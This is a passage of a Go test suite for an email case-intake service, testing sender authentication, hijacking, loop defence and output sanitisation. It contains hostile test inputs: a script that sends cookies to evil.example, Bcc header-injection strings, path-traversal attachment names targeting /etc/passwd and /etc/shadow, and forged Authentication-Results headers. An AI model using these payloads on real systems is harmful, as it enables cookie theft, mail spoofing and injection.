package intake_test

// Security tests: sender authentication ([security]), hijacking of cases,
// loop defence, output safety and the malformed-mail corpus, each as real
// IMAP and SMTP round trips through the harness of harness_test.go, with
// the [security] settings of envOptions.Sec.

import (
	"bytes"
	"crypto"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/emersion/go-msgauth/dkim"

	"casemail/intake"
)

// secOptions are what the security tests add to the harness.
type secOptions struct {
	Auth       intake.AuthOptions
	VerifyDKIM bool
	LookupTXT  func(domain string) ([]string, error)
}

// newSecEnv is newEnv with the [security] settings of sec.
func newSecEnv(t *testing.T, opts envOptions, sec secOptions) *env {
	t.Helper()
	opts.Sec = sec
	return newEnv(t, opts)
}

// secUse points the env's helpers at a subtest's t until the returned
// function restores the previous one.
func secUse(e *env, t *testing.T) func() {
	old := e.t
	e.t = t
	return func() { e.t = old }
}

// secStep delivers one mail, waits for its result and for the outbox to
// empty, and returns the result and the mail sent because of it.
func secStep(e *env, raw string) (intake.Result, []sent) {
	e.t.Helper()
	n := e.resultCount()
	before := len(e.smtp.Received())
	e.deliver(raw)
	r := e.result(n + 1)
	all := e.sentAll()
	return r, all[before:]
}

// secWaitFolder waits until folder holds n messages and returns them.
func secWaitFolder(e *env, folder string, n int) []string {
	e.t.Helper()
	deadline := time.Now().Add(waitLimit)
	for {
		msgs, _ := e.imap.Messages(folder)
		if len(msgs) >= n {
			out := make([]string, len(msgs))
			for i, m := range msgs {
				out[i] = string(m.Raw)
			}
			return out
		}
		if time.Now().After(deadline) {
			e.t.Fatalf("folder %s holds %d messages after %v, want %d", folder, len(msgs), waitLimit, n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// secInFolder reports whether a message with this Message-ID is in folder.
func secInFolder(e *env, folder, msgID string) bool {
	e.t.Helper()
	deadline := time.Now().Add(waitLimit)
	for {
		msgs, _ := e.imap.Messages(folder)
		for _, m := range msgs {
			if msgIDOf(string(m.Raw)) == msgID {
				return true
			}
		}
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// secOpen makes alice open a case and returns its ID and the notification.
func secOpen(e *env, subject string) (intake.CaseID, sent) {
	e.t.Helper()
	r, out := secStep(e, mail("Alice <alice@acme.example>", subject,
		"Hello,\n\nEngine: acme-search\nSeverity: high\n\n"+subject+" since this morning.\n\nAlice"))
	wantOutcome(e.t, r, intake.OutcomeCaseCreated)
	n := sentTo(out, notifyAddr)
	if len(n) != 1 {
		e.t.Fatalf("opening %s sent %v, want one notification", r.Case, out)
	}
	return r.Case, n[0]
}

// secReply builds a reply to s with threading headers.
func secReply(from string, s sent, subject, text string, hdrs ...string) string {
	refs := strings.Join(append(slices.Clone(s.References), s.MessageID), " ")
	hdrs = append([]string{"In-Reply-To: " + s.MessageID, "References: " + refs}, hdrs...)
	return mail(from, subject, text+"\n", hdrs...)
}

const trustedID = "mx.example.com"

// TestSecurityRequireAllAuthenticationResults: with require_auth = "all",
// only the topmost trusted Authentication-Results header decides.
func TestSecurityRequireAllAuthenticationResults(t *testing.T) {
	e := newSecEnv(t, envOptions{}, secOptions{Auth: intake.AuthOptions{
		TrustedAuthservIDs: []string{trustedID}, Require: intake.RequireAll}})
	const ar = "Authentication-Results: "
	rows := []struct {
		name string
		hdrs []string // topmost first
		pass bool
		bug  string // known bug: skip when the code gets it wrong
	}{
		{"dmarc=pass", []string{ar + trustedID + "; dmarc=pass header.from=acme.example"}, true, ""},
		{"dkim=pass aligned", []string{ar + trustedID + "; dkim=pass header.d=acme.example header.s=sel"}, true, ""},
		{"spf=pass aligned subdomain, mailfrom an address", []string{ar + trustedID + "; spf=pass smtp.mailfrom=bounce@bounce.acme.example"}, true, ""},
		{"spf=pass aligned subdomain, mailfrom a bare domain", []string{ar + trustedID + "; spf=pass smtp.mailfrom=bounce.acme.example"}, true,
			"intake/auth.go authenticate: smtp.mailfrom holding a bare domain (RFC 8601 allows it; Microsoft writes it) goes through domainOf, which needs an '@', so a genuine aligned spf=pass is not recognised"},
		{"dkim=pass not aligned", []string{ar + trustedID + "; dkim=pass header.d=evil.example"}, false, ""},
		{"spf=pass not aligned", []string{ar + trustedID + "; spf=pass smtp.mailfrom=x@evil.example"}, false, ""},
		{"dmarc=fail", []string{ar + trustedID + "; dmarc=fail header.from=acme.example"}, false, ""},
		{"no header", nil, false, ""},
		{"untrusted authserv-id", []string{ar + "mx.evil.example; dmarc=pass header.from=acme.example"}, false, ""},
		{"trusted id as a suffix of an untrusted one", []string{ar + "evil-mx.example.com; dmarc=pass header.from=acme.example"}, false, ""},
		{"forged lower header", []string{
			ar + trustedID + "; dmarc=fail header.from=acme.example",
			ar + trustedID + "; dmarc=pass header.from=acme.example"}, false, ""},
		{"forged lower header, topmost with no result", []string{
			ar + trustedID + "; none",
			ar + trustedID + "; dmarc=pass header.from=acme.example"}, false, ""},
		// The sender controls the local part of its MAIL FROM, which the
		// trusted server copies into a comment; a ";" in it makes the
		// topmost header unparseable for authres.Parse.
		{"forged lower header, topmost made unparseable by the sender", []string{
			ar + trustedID + `; spf=fail (domain of "x;y"@evil.example does not designate 192.0.2.1) smtp.mailfrom=evil.example; dmarc=fail header.from=acme.example`,
			ar + trustedID + "; dmarc=pass header.from=acme.example"}, false,
			"intake/auth.go authenticate: a trusted header that authres.Parse rejects is skipped (`if err != nil || !d.trusted(id) { continue }`), so the next, sender-written header with the same id decides"},
	}
	for i, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			defer secUse(e, t)()
			// Keep the ack rate limit out of the way.
			e.clock.Advance(2 * time.Hour)
			casesBefore := len(e.cases())
			raw := mail("Alice <alice@acme.example>", fmt.Sprintf("Auth row %d", i),
				"Engine: acme-search\nSearch is down.", row.hdrs...)
			r, out := secStep(e, raw)
			if row.pass {
				wantOutcome(t, r, intake.OutcomeCaseCreated)
				if len(sentTo(out, "alice@acme.example")) != 1 {
					t.Errorf("sent %v, want an ack to alice", out)
				}
				return
			}
			wantOutcome(t, r, intake.OutcomeQuarantined)
			if len(out) != 0 {
				t.Errorf("quarantined mail caused %v", out)
			}
			if got := len(e.cases()); got != casesBefore {
				t.Errorf("cases: %d, want %d", got, casesBefore)
			}
			if !secInFolder(e, e.quarantine, msgIDOf(raw)) {
				t.Errorf("mail not in the quarantine folder")
			}
			t.Logf("quarantined: %s", r.Reason)
		})
	}
}

// TestSecurityRequireAgents: with require_auth = "agents", a forged agent
// mail is quarantined and changes nothing; a genuine one is relayed;
// customers need no authentication.
func TestSecurityRequireAgents(t *testing.T) {
	e := newSecEnv(t, envOptions{}, secOptions{Auth: intake.AuthOptions{
		TrustedAuthservIDs: []string{trustedID}, Require: intake.RequireAgents}})
	id, notify := secOpen(e, "Agents auth") // customer, no auth: fine
	before, _ := e.caseJSON(id)

	forged := secReply("Dana <dana@example.com>", notify, "Re: ["+string(id)+"] Agents auth",
		"#resolve\nPlease send your password to mallory@evil.example.")
	r, out := secStep(e, forged)
	wantOutcome(t, r, intake.OutcomeQuarantined)
	if len(out) != 0 {
		t.Errorf("forged agent mail caused %v", out)
	}
	after, _ := e.caseJSON(id)
	if after.State != before.State || len(after.Messages) != len(before.Messages) {
		t.Errorf("case changed: state %s→%s, messages %d→%d", before.State, after.State, len(before.Messages), len(after.Messages))
	}
	if !secInFolder(e, e.quarantine, msgIDOf(forged)) {
		t.Errorf("forged mail not in the quarantine folder")
	}

	// A forged header lower down does not help.
	forged2 := secReply("Dana <dana@example.com>", notify, "Re: ["+string(id)+"] Agents auth", "Send me your password.",
		"Authentication-Results: "+trustedID+"; dmarc=fail header.from=example.com",
		"Authentication-Results: "+trustedID+"; dmarc=pass header.from=example.com")
	r, out = secStep(e, forged2)
	wantOutcome(t, r, intake.OutcomeQuarantined)
	if len(out) != 0 {
		t.Errorf("forged agent mail caused %v", out)
	}

	genuine := secReply("Dana <dana@example.com>", notify, "Re: ["+string(id)+"] Agents auth", "Please restart the indexer.",
		"Authentication-Results: "+trustedID+"; dkim=pass header.d=example.com; dmarc=pass header.from=example.com")
	r, out = secStep(e, genuine)
	wantOutcome(t, r, intake.OutcomeFollowUp)
	relay := sentTo(out, "alice@acme.example")
	if len(relay) != 1 || !strings.Contains(relay[0].Text, "restart the indexer") {
		t.Errorf("genuine agent answer: sent %v", out)
	}
	if c, _ := e.caseJSON(id); c.State != intake.StateWaiting {
		t.Errorf("state %s, want waiting", c.State)
	}

	// The customer answers without any Authentication-Results.
	r, _ = secStep(e, secReply("Alice <alice@acme.example>", relay[0], "Re: ["+string(id)+"] Agents auth", "Restarted, thanks."))
	wantOutcome(t, r, intake.OutcomeFollowUp)
}

// dkimKey is a test signing key and the TXT record publishing it.
type dkimKey struct {
	key *rsa.PrivateKey
	txt string
}

func newDKIMKey(t *testing.T) dkimKey {
	t.Helper()
	k, err := rsa.GenerateKey(rand.Reader, 2048)
	must(t, err)
	der, err := x509.MarshalPKIXPublicKey(&k.PublicKey)
	must(t, err)
	return dkimKey{key: k, txt: "v=DKIM1; k=rsa; p=" + base64.StdEncoding.EncodeToString(der)}
}

func dkimSign(t *testing.T, raw, domain string, k dkimKey) string {
	t.Helper()
	var b bytes.Buffer
	err := dkim.Sign(&b, strings.NewReader(raw), &dkim.SignOptions{
		Domain: domain, Selector: "sel", Signer: k.key, Hash: crypto.SHA256,
		HeaderCanonicalization: dkim.CanonicalizationRelaxed, BodyCanonicalization: dkim.CanonicalizationRelaxed,
	})
	must(t, err)
	return b.String()
}

// TestSecurityVerifyDKIM: verify_dkim with no trusted header; the keys come
// from the injected LookupTXT, never from DNS.
func TestSecurityVerifyDKIM(t *testing.T) {
	acme, other := newDKIMKey(t), newDKIMKey(t)
	var mu sync.Mutex
	var lookups []string
	lookup := func(domain string) ([]string, error) {
		mu.Lock()
		lookups = append(lookups, domain)
		mu.Unlock()
		switch domain {
		case "sel._domainkey.acme.example":
			return []string{acme.txt}, nil
		case "sel._domainkey.other.example":
			return []string{other.txt}, nil
		}
		return nil, fmt.Errorf("no TXT record for %s (test resolver)", domain)
	}
	e := newSecEnv(t, envOptions{}, secOptions{
		Auth:       intake.AuthOptions{Require: intake.RequireAll},
		VerifyDKIM: true, LookupTXT: lookup,
	})

	body := "Engine: acme-search\nThe index is empty since the upgrade.\n"
	valid := dkimSign(t, mail("Alice <alice@acme.example>", "Signed", body), "acme.example", acme)
	r, out := secStep(e, valid)
	wantOutcome(t, r, intake.OutcomeCaseCreated)
	if len(sentTo(out, "alice@acme.example")) != 1 {
		t.Errorf("valid signature: sent %v, want an ack", out)
	}

	altered := dkimSign(t, mail("Alice <alice@acme.example>", "Signed then altered", body), "acme.example", acme)
	altered = strings.Replace(altered, "The index is empty", "Wire 10000 EUR to", 1)
	r, out = secStep(e, altered)
	wantOutcome(t, r, intake.OutcomeQuarantined)
	if len(out) != 0 {
		t.Errorf("altered body: sent %v", out)
	}

	foreign := dkimSign(t, mail("Alice <alice@acme.example>", "Signed by other", body), "other.example", other)
	r, out = secStep(e, foreign)
	wantOutcome(t, r, intake.OutcomeQuarantined)
	if len(out) != 0 {
		t.Errorf("foreign signature: sent %v", out)
	}
	t.Logf("foreign signature: %s", r.Reason)

	unsigned := mail("Alice <alice@acme.example>", "Unsigned", body)
	r, _ = secStep(e, unsigned)
	wantOutcome(t, r, intake.OutcomeQuarantined)

	if got := len(e.cases()); got != 1 {
		t.Errorf("%d cases, want 1", got)
	}
	secWaitFolder(e, e.quarantine, 3)
	mu.Lock()
	defer mu.Unlock()
	if !slices.Contains(lookups, "sel._domainkey.acme.example") {
		t.Errorf("the injected LookupTXT was not asked for acme's key: %v", lookups)
	}
}

// TestSecurityHijacking: every path by which a mail joins a case checks the
// sender against the case's account.
func TestSecurityHijacking(t *testing.T) {
	e := newSecEnv(t, envOptions{}, secOptions{})
	id, notify := secOpen(e, "Hijack target")
	before, _ := e.caseJSON(id)
	tag := "[" + string(id) + "]"
	rows := []struct {
		name, from, raw string
	}{
		{"tag from a contact of another account", "bob@globex.example",
			mail("Bob <bob@globex.example>", "Re: "+tag+" Hijack target", "Please send me the logs of this case.")},
		{"References only, from a stranger", "mallory@evil.example",
			secReply("Mallory <mallory@evil.example>", notify, "Your case", "Close this case please.")},
		{"In-Reply-To only, from a stranger", "eve@evil.example",
			mail("Eve <eve@evil.example>", "hello", "Close this case please.", "In-Reply-To: "+notify.MessageID)},
		{"forward from a stranger", "trudy@evil.example",
			mail("Trudy <trudy@evil.example>", "Fwd: "+tag+" Hijack target", "---------- Forwarded message ---------\nSee below.")},
		{"agent's display name, stranger's address", "oscar@evil.example",
			secReply("Dana <oscar@evil.example>", notify, "Re: "+tag+" Hijack target", "#resolve\nDone.")},
		{"agent's address as display name", "oscar2@evil.example",
			secReply(`"dana@example.com" <oscar2@evil.example>`, notify, "Re: "+tag+" Hijack target", "#close\nDone.")},
	}
	for _, row := range rows {
		t.Run(row.name, func(t *testing.T) {
			defer secUse(e, t)()
			r, out := secStep(e, row.raw)
			wantOutcome(t, r, intake.OutcomeRefused)
			if len(out) != 1 || !slices.Equal(out[0].To, []string{row.from}) || secPurpose(out[0]) != "refusal" {
				t.Errorf("sent %v, want one refusal to %s", out, row.from)
			}
			for _, s := range out {
				wantNotContains(t, "refusal", s.Text+s.Subject, "alice@acme.example", "admin@acme.example", "Acme Corp")
			}
			// Again: refused, not answered twice.
			again := strings.Replace(row.raw, msgIDOf(row.raw), newMsgID(), 1)
			r, out = secStep(e, again)
			wantOutcome(t, r, intake.OutcomeRefused)
			if len(out) != 0 {
				t.Errorf("second attempt answered again: %v", out)
			}
			after, _ := e.caseJSON(id)
			if after.State != before.State || len(after.Messages) != len(before.Messages) || after.MessageCount != before.MessageCount {
				t.Errorf("case changed: state %s→%s, messages %d→%d", before.State, after.State, len(before.Messages), len(after.Messages))
			}
		})
	}
}

// secPurpose guesses which template a sent mail came from, by its subject.
func secPurpose(s sent) string {
	switch {
	case strings.Contains(s.Subject, "(request not accepted)"):
		return "refusal"
	}
	return ""
}

// TestSecurityLoopDefence: loop headers are never answered; automatic
// answers are rate-limited.
func TestSecurityLoopDefence(t *testing.T) {
	e := newSecEnv(t, envOptions{}, secOptions{})
	body := "Engine: acme-search\nSomething broke."

	t.Run("X-Auto-Response-Suppress: All", func(t *testing.T) {
		defer secUse(e, t)()
		r, out := secStep(e, mail("Alice <alice@acme.example>", "Suppress all", body, "X-Auto-Response-Suppress: All"))
		// The sender asks for no automatic answers: the case is opened and
		// the agents are told, but no acknowledgement goes back.
		wantOutcome(t, r, intake.OutcomeCaseCreated)
		if n := len(sentTo(out, "alice@acme.example")); n != 0 {
			t.Errorf("sent %d automatic answers to a mail asking for none: %v", n, out)
		}
		if len(sentTo(out, "support-team@example.com")) != 1 {
			t.Errorf("agents not notified: %v", out)
		}
	})
	t.Run("X-Auto-Response-Suppress: All from a stranger", func(t *testing.T) {
		defer secUse(e, t)()
		r, out := secStep(e, mail("Eve <eve@unknown.example>", "Suppress all", body, "X-Auto-Response-Suppress: OOF, AutoReply"))
		wantOutcome(t, r, intake.OutcomeRefused)
		if len(out) != 0 {
			t.Errorf("refusal sent to a mail asking for no automatic answers: %v", out)
		}
	})
	for _, row := range []struct{ name, hdr string }{
		{"X-Loop names the support address", "X-Loop: support@example.com"},
		{"X-Loop names the support address, other case", "X-Loop: SUPPORT@Example.COM"},
		{"Return-Path null", "Return-Path: <>"},
	} {
		t.Run(row.name, func(t *testing.T) {
			defer secUse(e, t)()
			n := len(e.cases())
			r, out := secStep(e, mail("Alice <alice@acme.example>", row.name, body, row.hdr))
			wantOutcome(t, r, intake.OutcomeSuppressed)
			if len(out) != 0 || len(e.cases()) != n {
				t.Errorf("sent %v, cases %d→%d", out, n, len(e.cases()))
			}
		})
	}
}

// TestSecurityAutoReplyRateLimit: five new cases within an hour from one
// contact get at most three acknowledgements; five mails from a stranger
// get one refusal.
func TestSecurityAutoReplyRateLimit(t *testing.T) {
	e := newSecEnv(t, envOptions{}, secOptions{})
	for i := range 5 {
		r, _ := secStep(e, mail("Ops <ops@acme.example>", fmt.Sprintf("Rate %d", i), "Engine: acme-search\nBroken again."))
		wantOutcome(t, r, intake.OutcomeCaseCreated)
		e.clock.Advance(5 * time.Minute)
	}
	all := e.sentAll()
	acks := sentTo(all, "ops@acme.example")
	if len(acks) > 3 {
		t.Errorf("%d acknowledgements to one contact within an hour, want at most 3", len(acks))
	}
	if len(acks) != 3 {
		t.Errorf("%d acknowledgements, want 3 (AutoReplyLimit)", len(acks))
	}
	if n := len(e.cases()); n != 5 {
		t.Errorf("%d cases, want 5", n)
	}
	if n := len(sentTo(all, notifyAddr)); n != 5 {
		t.Errorf("%d notifications, want 5 (agents hear of every case)", n)
	}
	for i := range 5 {
		r, _ := secStep(e, mail("Mallory <mallory@evil.example>", fmt.Sprintf("Hello %d", i), "Let me in."))
		wantOutcome(t, r, intake.OutcomeRefused)
	}
	if n := len(sentTo(e.sentAll(), "mallory@evil.example")); n != 1 {
		t.Errorf("%d refusals to one stranger, want 1", n)
	}
}

// secHeadOf returns the header block of a raw mail.
func secHeadOf(raw string) string {
	head, _, _ := strings.Cut(raw, "\r\n\r\n")
	return head
}

// secCheckHeaders fails on any sign of header injection in a sent mail.
func secCheckHeaders(t *testing.T, s sent) {
	t.Helper()
	head := secHeadOf(s.Raw)
	for _, line := range strings.Split(head, "\r\n") {
		l := strings.ToLower(line)
		for _, bad := range []string{"bcc:", "x-injected:", "cc:"} {
			if strings.HasPrefix(l, bad) {
				t.Errorf("%v: injected header line %q", s, line)
			}
		}
		for _, c := range line {
			if c < 0x20 && c != '\t' || c == 0x7f {
				t.Errorf("%v: control character %q in header line %q", s, c, line)
			}
		}
	}
	if strings.Contains(head, "\n") && strings.Contains(strings.ReplaceAll(head, "\r\n", ""), "\n") {
		t.Errorf("%v: bare LF in the header", s)
	}
	if s.Header.Has("Bcc") || s.Header.Has("X-Injected") || s.Header.Has("Cc") {
		t.Errorf("%v: injected header", s)
	}
	if strings.ContainsAny(s.Subject, "\r\n\x00\x07\x1b") || strings.ContainsAny(s.From.Name, "\r\n\x00\x07\x1b") {
		t.Errorf("%v: line break or control character in subject %q or From name %q", s, s.Subject, s.From.Name)
	}
	if len(s.To) != 1 || strings.Contains(s.To[0], "evil") {
		t.Errorf("%v: envelope recipients %v", s, s.To)
	}
}

// TestSecurityOutputSafety: header injection through the subject and the
// display name, attachment names, active HTML.
func TestSecurityOutputSafety(t *testing.T) {
	e := newSecEnv(t, envOptions{}, secOptions{})

	t.Run("header injection", func(t *testing.T) {
		defer secUse(e, t)()
		subject := "=?utf-8?Q?Broken=0D=0ABcc:_victim@evil.example=0D=0AX-Injected:_yes=07=1B[31m=00end?="
		from := "=?utf-8?Q?Alice=0D=0ABcc=3A_victim=40evil.example=07?= <alice@acme.example>"
		r, out := secStep(e, mail(from, subject, "Engine: acme-search\nIt broke."))
		wantOutcome(t, r, intake.OutcomeCaseCreated)
		if len(out) != 2 {
			t.Fatalf("sent %v, want ack and notification", out)
		}
		for _, s := range out {
			secCheckHeaders(t, s)
			// The body quotes user input too; it must not smuggle control characters.
			if strings.ContainsAny(s.Text, "\x00\x07\x1b") {
				t.Errorf("%v: control character in the body", s)
			}
		}
		// A raw (unencoded) attempt: a folded header continuation that
		// looks like a new header to a careless parser.
		r, out = secStep(e, mail("Alice <alice@acme.example>", "Folded\r\n Bcc: victim@evil.example", "Engine: acme-search\nIt broke again."))
		wantOutcome(t, r, intake.OutcomeCaseCreated)
		for _, s := range out {
			secCheckHeaders(t, s)
		}
		// The agent's display name is copied into the relay's From.
		c, _ := e.caseJSON(r.Case)
		_ = c
		n := sentTo(out, notifyAddr)[0]
		r, out = secStep(e, secReply("=?utf-8?Q?Dana=0D=0ABcc=3A_victim=40evil.example=00?= <dana@example.com>", n,
			"Re: ["+string(r.Case)+"] Folded", "We are on it."))
		wantOutcome(t, r, intake.OutcomeFollowUp)
		for _, s := range out {
			secCheckHeaders(t, s)
		}
	})

	t.Run("attachment names", func(t *testing.T) {
		defer secUse(e, t)()
		names := []string{"../../etc/passwd", "..\\..\\boot.ini", "evil\x01\x1b[2Jname\x7f.txt", "=?utf-8?Q?=2E=2E=2F=2E=2E=2Fetc=2Fshadow?="}
		var b strings.Builder
		b.WriteString("--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nEngine: acme-search\r\nFiles attached.\r\n")
		for _, n := range names {
			fmt.Fprintf(&b, "--b1\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n",
				n, base64.StdEncoding.EncodeToString([]byte("secret "+n)))
		}
		b.WriteString("--b1--\r\n")
		r, _ := secStep(e, mail("Alice <alice@acme.example>", "Attachments", b.String(), "Content-Type: multipart/mixed; boundary=b1"))
		wantOutcome(t, r, intake.OutcomeCaseCreated)
		c, _ := e.caseJSON(r.Case)
		got := c.Messages[0].Attachments
		if len(got) != len(names) {
			t.Fatalf("attachments %v, want %d", got, len(names))
		}
		for i, a := range got {
			t.Logf("attachment %q → %q", names[i], a.Name)
			if a.Name == "" || strings.ContainsAny(a.Name, "/\\") || strings.HasPrefix(a.Name, ".") || strings.Contains(a.Name, "..") {
				t.Errorf("attachment %q recorded as %q: path left in", names[i], a.Name)
			}
			for _, r := range a.Name {
				if r < 0x20 || r == 0x7f {
					t.Errorf("attachment %q recorded as %q: control character", names[i], a.Name)
				}
			}
		}
	})

	t.Run("HTML only", func(t *testing.T) {
		defer secUse(e, t)()
		html := `<html><head><script>alert("head")</script><style>body{}</style></head><body>` +
			`<p>Engine: acme-search</p><p>The <b>search</b> page is blank.</p>` +
			`<script type="text/javascript">document.location="https://evil.example/?c="+document.cookie</script>` +
			`<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">click</a></body></html>`
		r, out := secStep(e, mail("Alice <alice@acme.example>", "HTML only", html, "Content-Type: text/html; charset=utf-8"))
		wantOutcome(t, r, intake.OutcomeCaseCreated)
		c, _ := e.caseJSON(r.Case)
		stored := c.Messages[0].Text
		n := sentTo(out, notifyAddr)
		if len(n) != 1 {
			t.Fatalf("sent %v", out)
		}
		wantContains(t, "stored text", stored, "page is blank")
		wantContains(t, "notification", n[0].Text, "page is blank")
		for what, text := range map[string]string{"stored text": stored, "notification": n[0].Text, "nature": c.Nature} {
			wantNotContains(t, what, text, "<script", "<img", "onerror", "alert(", "document.cookie", "<p>", "<b>", "javascript:")
		}
		if ct := n[0].Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
			t.Errorf("notification Content-Type %q, want text/plain", ct)
		}
	})
}

// corpusRow is one malformed mail and what became of it.
type corpusRow struct {
	name    string
	raw     string
	outcome intake.Outcome
	reason  string
	note    string
}

// secCorpus is the "Bad input" corpus of PRODUCT.md. Every mail comes from
// alice unless its point is the From line.
func secCorpus() []corpusRow {
	hdr := func(subject string, extra ...string) string {
		return "From: Alice <alice@acme.example>\r\nTo: support@example.com\r\nSubject: " + subject +
			"\r\nMessage-ID: " + newMsgID() + "\r\nDate: Mon, 23 Nov 2026 10:00:00 -0800\r\nMIME-Version: 1.0\r\n" +
			strings.Join(extra, "\r\n") + "\r\n\r\n"
	}
	deep := func(n int) string {
		var b strings.Builder
		b.WriteString(hdr("Deep multipart", "Content-Type: multipart/mixed; boundary=\"d0\""))
		for i := range n {
			fmt.Fprintf(&b, "--d%d\r\nContent-Type: multipart/mixed; boundary=\"d%d\"\r\n\r\n", i, i+1)
		}
		fmt.Fprintf(&b, "--d%d\r\nContent-Type: text/plain\r\n\r\nEngine: acme-search\r\nDeep down.\r\n", n)
		for i := n; i >= 0; i-- {
			fmt.Fprintf(&b, "--d%d--\r\n", i)
		}
		return b.String()
	}
	bigHeader := func() string {
		var b strings.Builder
		b.WriteString("From: Alice <alice@acme.example>\r\nTo: support@example.com\r\nSubject: Huge header\r\nMessage-ID: " + newMsgID() + "\r\n")
		b.WriteString("X-Junk: start")
		line := " " + strings.Repeat("x", 76) + "\r\n"
		for b.Len() < 1<<20 {
			b.WriteString("\r\n" + line[:len(line)-2])
		}
		b.WriteString("\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nEngine: acme-search\r\nBig header.\r\n")
		return b.String()
	}
	garbage := func() string {
		b := make([]byte, 64<<10)
		for i := range b {
			b[i] = byte((i*7919 + i*i*31) % 256)
		}
		return string(b)
	}
	text := "Engine: acme-search\r\nSomething broke.\r\n"
	return []corpusRow{
		{name: "broken boundaries", raw: hdr("Broken boundaries", "Content-Type: multipart/mixed; boundary=\"abc\"") +
			"--abd\r\nContent-Type: text/plain\r\n\r\n" + text + "--ab\r\n--abc\r\nContent-Type: text/plain\r\n\r\nsecond part\r\n--abc-\r\n"},
		{name: "missing end boundary", raw: hdr("Missing end boundary", "Content-Type: multipart/mixed; boundary=\"abc\"") +
			"--abc\r\nContent-Type: text/plain\r\n\r\n" + text + "--abc\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n"},
		{name: "invalid base64", raw: hdr("Invalid base64", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64") +
			"RW5naW5lOiBhY21lLXNlYXJjaApCcm9rZW4u!!!***%%%\r\n@@@@====\r\n"},
		{name: "invalid quoted-printable", raw: hdr("Invalid QP", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: quoted-printable") +
			"Engine: acme-search\r\nBroken =ZZ and =\r\n=4 and =E9=\r\nend=\r\n"},
		{name: "unknown charset", raw: hdr("Unknown charset", "Content-Type: text/plain; charset=x-klingon-42") + text + "Qapla\xe9\xff\r\n"},
		{name: "lying charset (utf-8, is latin-1)", raw: hdr("Lying charset", "Content-Type: text/plain; charset=utf-8") +
			"Engine: acme-search\r\nLe moteur de recherche ne r\xe9pond plus depuis la mise \xe0 jour, c'est tr\xe8s g\xeanant.\r\n"},
		{name: "8-bit headers", raw: "From: Al\xefce Fr\xe9mont <alice@acme.example>\r\nTo: support@example.com\r\nSubject: Probl\xe8me d'index \xe9t\xe9\r\nMessage-ID: " +
			newMsgID() + "\r\nContent-Type: text/plain; charset=iso-8859-1\r\n\r\n" + text},
		{name: "NUL bytes", raw: hdr("NUL\x00bytes", "Content-Type: text/plain; charset=utf-8") + "Engine: acme-search\r\nNUL\x00here\x00and\x00there.\r\n"},
		{name: "1,000-deep multipart", raw: deep(1000)},
		{name: "1 MiB header", raw: bigHeader()},
		{name: "no From", raw: strings.Replace(hdr("No From", "Content-Type: text/plain"), "From: Alice <alice@acme.example>\r\n", "", 1) + text},
		{name: "two From", raw: "From: Alice <alice@acme.example>\r\nFrom: Mallory <mallory@evil.example>\r\nTo: support@example.com\r\nSubject: Two From\r\nMessage-ID: " +
			newMsgID() + "\r\n\r\n" + text},
		{name: "two addresses in one From", raw: "From: Alice <alice@acme.example>, Mallory <mallory@evil.example>\r\nTo: support@example.com\r\nSubject: Two From addresses\r\nMessage-ID: " +
			newMsgID() + "\r\n\r\n" + text},
		{name: "group-syntax From", raw: "From: Support team: alice@acme.example, ops@acme.example;\r\nTo: support@example.com\r\nSubject: Group From\r\nMessage-ID: " +
			newMsgID() + "\r\n\r\n" + text},
		{name: "empty group From", raw: "From: undisclosed-senders:;\r\nTo: support@example.com\r\nSubject: Empty group From\r\nMessage-ID: " +
			newMsgID() + "\r\n\r\n" + text},
		{name: "binary garbage", raw: garbage()},
		{name: "empty message", raw: "\r\n"},
		{name: "header only, no body", raw: "From: Alice <alice@acme.example>\r\nSubject: Header only\r\nMessage-ID: " + newMsgID() + "\r\n"},
	}
}

// TestSecurityMalformedCorpus delivers each malformed mail, then a normal
// one, which must still be processed. Each malformed mail ends as a case or
// a counted rejection kept in the quarantine folder.
func TestSecurityMalformedCorpus(t *testing.T) {
	e := newSecEnv(t, envOptions{}, secOptions{})
	e.waitReady() // the source has made the quarantine folder, read below
	rows := secCorpus()
	var table strings.Builder
	for i := range rows {
		row := &rows[i]
		before := len(e.folder(e.quarantine))
		r, _ := secStep(e, row.raw)
		row.outcome, row.reason = r.Outcome, r.Reason
		switch r.Outcome {
		case intake.OutcomeCaseCreated:
			c, _ := e.caseJSON(r.Case)
			txt := c.Messages[0].Text
			row.note = fmt.Sprintf("%s, engine %q, text %d bytes", r.Case, c.Engine, len(txt))
			if !utf8.ValidString(txt) || !utf8.ValidString(c.Nature) || !utf8.ValidString(c.Messages[0].Subject) {
				t.Errorf("%s: %s holds invalid UTF-8", row.name, r.Case)
			}
			if strings.ContainsRune(txt, 0) || strings.ContainsRune(c.Nature, 0) || strings.ContainsRune(c.Messages[0].Subject, 0) {
				t.Errorf("%s: %s holds a NUL byte", row.name, r.Case)
			}
			if strings.Contains(row.name, "lying") {
				row.note += fmt.Sprintf("; text %q", strings.TrimSpace(txt))
			}
		case intake.OutcomeRejected, intake.OutcomeQuarantined:
			secWaitFolder(e, e.quarantine, before+1)
			row.note = "kept in " + e.quarantine
		default:
			t.Errorf("%s: outcome %s (%s): neither a case nor a counted rejection", row.name, r.Outcome, r.Reason)
		}
		// A normal mail behind it is processed.
		ok, _ := secStep(e, mail("Ops <ops@acme.example>", fmt.Sprintf("Normal after %d", i), "Engine: acme-search\nAll fine."))
		if ok.Outcome != intake.OutcomeCaseCreated {
			t.Errorf("normal mail after %s: %s (%s)", row.name, ok.Outcome, ok.Reason)
		}
		e.clock.Advance(time.Hour) // keep the ack rate limit out of the table
	}
	fmt.Fprintf(&table, "\n%-34s | %-13s | %s\n", "mail", "outcome", "reason / note")
	for _, row := range rows {
		reason := row.reason
		if len(reason) > 110 {
			reason = reason[:110] + "…"
		}
